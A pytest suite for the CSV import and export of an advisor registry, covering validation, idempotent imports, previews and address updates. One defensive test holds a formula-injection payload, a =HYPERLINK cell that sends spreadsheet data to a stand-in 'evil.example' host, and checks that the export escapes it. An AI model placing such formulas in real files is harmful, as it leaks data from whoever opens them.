"""CSV import/export of the advisor registry through the real CLI, on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import TypeVar
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.cli import main
from handlers.advisors.csv_cells import escape_cell, unescape_cell
from handlers.advisors.registry_csv import parse_rows
from storage.db import create_engine, session_factory
from storage.email_addresses import mark_unreachable
from storage.models import Advisor, AdvisorAuthorization, AdvisorStep

T = TypeVar("T")

HEADER = "name,email,institution,fields,language,authorized_on,status\n"
GOOD = (
    HEADER
    + "Berta Beispiel,berta@example.org,RKW Nord,Digitalisierung,de,2019-03-15,\n"
    + "Erik Example,erik@example.org,BIFA,Finanzierung; Export,en,01.02.2020,listed\n"
    + "Dora Delisted,dora@example.org,BIFA,,,2017-05-02,delisted\n"
)


@pytest.fixture
def cli(database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> CliRunner:
    monkeypatch.chdir(tmp_path)  # no stray .env
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("ADVISOR_POLICY_START", "2021-01-01")
    return CliRunner()


def count(database_url: str, model: type) -> int:
    async def go() -> int:
        engine = create_engine(database_url)
        try:
            async with session_factory(engine)() as session:
                return await session.scalar(select(func.count()).select_from(model)) or 0
        finally:
            await engine.dispose()

    return asyncio.run(go())


def test_import_is_idempotent_and_export_round_trips(
    cli: CliRunner, database_url: str, tmp_path: Path
) -> None:
    source = tmp_path / "advisors.csv"
    source.write_text(GOOD, encoding="utf-8")
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert result.exit_code == 0, result.output
    assert "created 3, updated 0 (renewed 0), unchanged 0" in result.output
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert "created 0, updated 0 (renewed 0), unchanged 3" in result.output
    assert count(database_url, Advisor) == 3
    assert count(database_url, AdvisorAuthorization) == 3
    assert count(database_url, AdvisorStep) == 1  # Dora's imported delisting
    exported = tmp_path / "export.csv"
    result = cli.invoke(main, ["advisors", "export", str(exported)])
    assert result.exit_code == 0 and "wrote 3 advisors" in result.output
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    assert [(r["email"], r["authorized_on"], r["status"]) for r in rows] == [
        ("berta@example.org", "2019-03-15", "listed"),
        ("erik@example.org", "2020-02-01", "listed"),
        ("dora@example.org", "2017-05-02", "delisted"),
    ]
    assert rows[0]["next_step_on"] == "2021-01-01"
    assert rows[2]["next_step_on"] == ""  # delisted: no letters until renewal
    result = cli.invoke(main, ["advisors", "import", str(exported)])
    assert "unchanged 3" in result.output
    # A later file with a renewal and a changed institution, keyed by id.
    changed = exported.read_text(encoding="utf-8").replace(
        "RKW Nord,Digitalisierung,de,2019-03-15", "RKW Süd,Digitalisierung,de,2021-02-01"
    )
    exported.write_text(changed, encoding="utf-8")
    result = cli.invoke(main, ["advisors", "import", str(exported)])
    assert "created 0, updated 1 (renewed 1), unchanged 2" in result.output
    assert count(database_url, AdvisorAuthorization) == 4


def test_invalid_rows_are_all_reported_and_nothing_is_imported(
    cli: CliRunner, database_url: str, tmp_path: Path
) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(
        HEADER
        + "Good One,good@example.org,RKW,,de,2019-03-15,\n"
        + "No Mail,not-an-address,RKW,,de,2019-03-15,\n"
        + ",x@example.org,RKW,,fr,31.02.2019,\n"
        + "Twice,good@example.org,RKW,,de,2019-03-15,gone\n"
        + "Umlaut,jörg@example.org,RKW,,de,2019-03-15,\n",
        encoding="utf-8",
    )
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert result.exit_code != 0
    lines = result.output.splitlines()
    assert "line 3: email: 'not-an-address' is not an e-mail address" in lines
    assert "line 4: name: empty" in lines
    assert "line 4: authorized_on: '31.02.2019' is no date (2021-03-15)" in lines
    assert "line 4: language: 'fr' is not de or en" in lines
    assert "line 5: email: good@example.org appears already in line 2" in lines
    assert "line 5: status: 'gone' is not listed or delisted" in lines
    assert (
        "line 6: email: 'jörg@example.org': umlauts before the @ cannot be written to "
        "(no SMTPUTF8)" in lines
    )
    assert "7 problem(s) in bad.csv; nothing was imported" in result.output
    assert count(database_url, Advisor) == 0


def test_unknown_id_is_refused(cli: CliRunner, database_url: str, tmp_path: Path) -> None:
    source = tmp_path / "ids.csv"
    source.write_text(
        "id," + HEADER + "7,Ghost,ghost@example.org,RKW,,de,2019-03-15,\n", encoding="utf-8"
    )
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert "line 2: id: there is no advisor 7" in result.output
    assert count(database_url, Advisor) == 0


def test_missing_columns_are_named() -> None:
    rows, errors = parse_rows(
        "name,mail\nA,a@b.de\n",
        today=date(2021, 1, 1),
        tz=ZoneInfo("Europe/Berlin"),
        default_language="de",
    )
    assert rows == [] and [str(e) for e in errors] == [
        "line 1: email,institution,authorized_on: column missing in the header line"
    ]


def test_large_import_in_one_transaction_and_preview(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("ADVISOR_POLICY_START", "2021-01-01")
    cli = CliRunner()
    source = tmp_path / "many.csv"
    body = "".join(
        f"Person {i},p{i}@example.org,Institut {i % 7},,de,"
        f"2019-{1 + i % 12:02d}-{1 + i % 28:02d},\n"
        for i in range(3000)
    )
    source.write_text(HEADER + body, encoding="utf-8")
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert result.exit_code == 0, result.output
    assert "created 3000" in result.output
    result = cli.invoke(main, ["advisors", "preview", "--as-of", "2021-01-01", "--limit", "5"])
    assert result.exit_code == 0, result.output
    # Authorized January to March 2019: first reminder due at the policy start.
    assert result.output.startswith("Am 01.01.2021 sind für 750 Personen Schritte fällig")
    assert "… und 745 weitere Personen." in result.output
    assert count(sqlite_url, AdvisorStep) == 0  # the preview sent and recorded nothing


def test_formula_cells_are_exported_as_text_and_imported_unchanged(
    cli: CliRunner, database_url: str, tmp_path: Path
) -> None:
    """A name like =HYPERLINK(...) would run as a formula when an admin opens the export in
    a spreadsheet; the export prefixes a quote, and importing that file changes nothing."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
    source = tmp_path / "advisors.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                HEADER.strip().split(","),
                [formula, "eve@example.org", "+49 Institut", "@Digital", "de", "2019-03-15", ""],
                ["'t Hooft", "tom@example.org", "-RKW", "'=schon Text", "de", "2019-03-15", ""],
            ]
        )
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert "created 2" in result.output, result.output
    exported = tmp_path / "export.csv"
    result = cli.invoke(main, ["advisors", "export", str(exported)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    assert [(r["name"], r["institution"], r["fields"]) for r in rows] == [
        ("'" + formula, "'+49 Institut", "'@Digital"),
        ("'t Hooft", "'-RKW", "'=schon Text"),
    ]
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    result = cli.invoke(main, ["advisors", "import", str(exported)])
    assert "created 0, updated 0 (renewed 0), unchanged 2" in result.output, result.output

    async def names() -> list[tuple[str, str, str]]:
        engine = create_engine(database_url)
        try:
            async with session_factory(engine)() as session:
                found = await session.execute(
                    select(Advisor.name, Advisor.institution, Advisor.fields).order_by(Advisor.id)
                )
                return [tuple(row) for row in found]
        finally:
            await engine.dispose()

    assert asyncio.run(names()) == [
        (formula, "+49 Institut", "@Digital"),
        ("'t Hooft", "-RKW", "=schon Text"),  # a quote typed as in Excel: text
    ]


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ")), max_size=8))
def test_escaping_a_cell_round_trips(cell: str) -> None:
    escaped = escape_cell(cell)
    assert isinstance(escaped, str) and not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_cell(escaped) == cell


def test_an_import_that_changes_an_address_clears_its_unreachable_mark(
    cli: CliRunner, database_url: str, tmp_path: Path
) -> None:
    """The same address again is still the dead one; a new address is tried again."""

    async def in_session(work: Callable[[AsyncSession], Awaitable[T]]) -> T:
        engine = create_engine(database_url)
        try:
            async with session_factory(engine).begin() as session:
                return await work(session)
        finally:
            await engine.dispose()

    async def mark(session: AsyncSession) -> None:
        moment = datetime(2021, 6, 10, 8, 0, tzinfo=UTC)
        await mark_unreachable(session, "berta@example.org", "5.1.1 User unknown", moment)

    async def berta(session: AsyncSession) -> tuple[str | None, str | None]:
        advisor = await session.scalar(select(Advisor).where(Advisor.name == "Berta Beispiel"))
        assert advisor is not None
        return advisor.email, advisor.email_unreachable_reason

    source = tmp_path / "advisors.csv"
    source.write_text(GOOD, encoding="utf-8")
    assert cli.invoke(main, ["advisors", "import", str(source)]).exit_code == 0
    asyncio.run(in_session(mark))
    result = cli.invoke(main, ["advisors", "import", str(source)])
    assert "unchanged 3" in result.output
    assert asyncio.run(in_session(berta)) == ("berta@example.org", "5.1.1 User unknown")
    # Keyed by id (the export's first column), the entry gets a new address.
    exported = tmp_path / "export.csv"
    assert cli.invoke(main, ["advisors", "export", str(exported)]).exit_code == 0
    keyed = exported.read_text(encoding="utf-8").replace(
        ",berta@example.org,", ",berta.neu@example.org,"
    )
    exported.write_text(keyed, encoding="utf-8")
    result = cli.invoke(main, ["advisors", "import", str(exported)])
    assert result.exit_code == 0, result.output
    assert "updated 1" in result.output
    assert asyncio.run(in_session(berta)) == ("berta.neu@example.org", None)
